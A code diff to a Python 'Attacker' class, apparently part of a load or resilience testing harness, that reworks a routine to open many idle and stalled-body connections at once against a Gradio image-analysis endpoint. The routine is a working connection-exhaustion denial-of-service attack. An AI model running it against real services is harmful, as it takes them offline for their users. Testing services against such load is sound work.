@@ -131,21 +131,26 @@ class Attacker:
         host, port = urlsplit(self.visitor.address).hostname, urlsplit(self.visitor.address).port
         head = f"POST /gradio_api/call/analyze_image HTTP/1.1\r\nHost: {host}:{port}\r\n"
         head += "Content-Type: application/json\r\nContent-Length: 8000000\r\n\r\n"
-        writers = []
-        for number in range(BODIES + IDLE):
-            kind = "idle connections" if number < IDLE else "unfinished bodies"
+        body = head.encode() + bytes(7_999_999)
+
+        async def connect(number: int) -> asyncio.StreamWriter | None:
+            kind, sent = ("idle connections", b"") if number < IDLE else ("unfinished bodies", body)
+            writer = None
             try:
                 _, writer = await asyncio.open_connection(host, port, local_addr=(self.source, 0))
-                writers.append(writer)
-                if number >= IDLE:
-                    writer.write(head.encode() + bytes(7_999_999))
-                    await asyncio.wait_for(writer.drain(), 1)
+                writer.write(sent)
+                await asyncio.wait_for(writer.drain(), PATIENCE_S)
                 self.ends[kind, "taken"] += 1
             except (OSError, TimeoutError) as error:
                 self.ends[kind, type(error).__name__] += 1
+            return writer
+
+        # All at once, as the connections of one attack are.
+        writers = await asyncio.gather(*map(connect, range(BODIES + IDLE)))
         await asyncio.sleep(PAUSE_S)
         for writer in writers:
-            writer.close()
+            if writer is not None:
+                writer.close()
 
     async def frame(self, kind: str, jpeg: bytes, name: str = "") -> None:
         """A picture of the live view."""
